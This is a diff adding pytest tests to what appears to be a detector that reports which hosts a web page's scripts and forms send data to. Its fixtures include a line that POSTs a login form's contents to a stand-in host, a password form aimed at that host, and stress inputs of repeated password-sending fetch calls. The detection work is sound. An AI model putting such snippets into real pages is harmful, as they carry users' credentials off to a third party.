@@ -69,6 +69,20 @@ def test_what_a_script_sends_elsewhere_is_sent_there(script: str, flood: str) ->
     assert [host for host in hosts(script, tail=flood) if host != "a.test"] == ["", "panel.example"]
 
 
+@pytest.mark.parametrize("decoy", ["<form action='//panel.example/'></form>", "<form action='//panel.example/'><input name=q></form>"])
+def test_a_form_of_no_secret_that_names_the_receiver_does_not_stand_for_it(decoy: str) -> None:
+    script = f"fetch('{THERE}', {{method: 'POST', body: new FormData(login)}})"
+    assert hosts(script, form=decoy + FORM) == ["", "panel.example"]
+
+
+@pytest.mark.parametrize(("method", "told"), [("script", "get"), (" POST ", "post"), ("dialog", "dialog"), ("put", "get"), ("", "get")])
+def test_a_method_that_browsers_do_not_know_is_get_and_none_says_that_a_script_sends(method: str, told: str) -> None:
+    button = "<button formmethod=script formaction='//b.example/'>OK</button>"
+    html = f"<form method='{method}' action='{THERE}'><input type=password name=p>{button}</form>"
+    facts, _ = read_page(body=html.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")
+    assert [(form.action_host, form.method) for form in facts.forms] == [("panel.example", told), ("b.example", "get")]
+
+
 @pytest.mark.parametrize("decoy", ["<form><input name=q></form>", "<form id=search><input name=q></form>"])
 @pytest.mark.parametrize(
     "script",
@@ -180,4 +194,10 @@ def test_a_long_script_pushes_no_short_one_aside_and_is_told_where_it_was_cut() 
 )
 def test_hostile_scripts_cost_little(piece: str) -> None:
     html = f"{FORM}<script>{piece * (900_000 // len(piece))}</script>"
+    assert least_cpu_s(lambda: hosts(html), within=1.5) <= 1.5
+
+
+def test_hundreds_of_requests_that_ask_one_name_read_what_it_is_given_once() -> None:
+    given = f"u=`${{{'a+' * 450}v}}`;" * 40
+    html = f"{given}{'fetch(u,password);' * 560}"
     assert least_cpu_s(lambda: hosts(html), within=1.5) <= 1.5
